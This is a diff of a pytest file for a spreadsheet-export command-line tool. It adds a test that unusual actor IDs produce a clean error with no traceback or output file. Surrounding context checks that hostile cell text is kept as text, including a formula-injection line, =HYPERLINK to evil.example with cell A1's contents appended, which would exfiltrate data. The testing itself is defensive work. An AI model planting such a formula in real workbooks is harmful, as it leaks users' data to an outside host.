@@ -290,3 +290,11 @@ def test_hostile_text_stays_text_in_a_partner_workbook(tmp_path):
             assert not re.search(r"<f[ >]", archive.read(name).decode()), name
     actors = pd.read_excel(path, sheet_name="Akteure", dtype=object).set_index("ID")
     assert actors.loc["FB 56", "Name"] == '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
+
+
+@pytest.mark.parametrize("value", ["", "-1", "'", "=1+1", "a b", "<x>", "😀", "\t", "FB 56\x00"])
+def test_odd_actor_ids_give_a_message_never_a_traceback(tmp_path, value):
+    result = run("template", "--for", value, "--data", OVERVIEW, "-o", tmp_path / "x.xlsx")
+    assert result.exit_code in (1, 2), result.output
+    assert "internal error" not in result.stderr and "Traceback" not in result.output
+    assert not (tmp_path / "x.xlsx").exists()
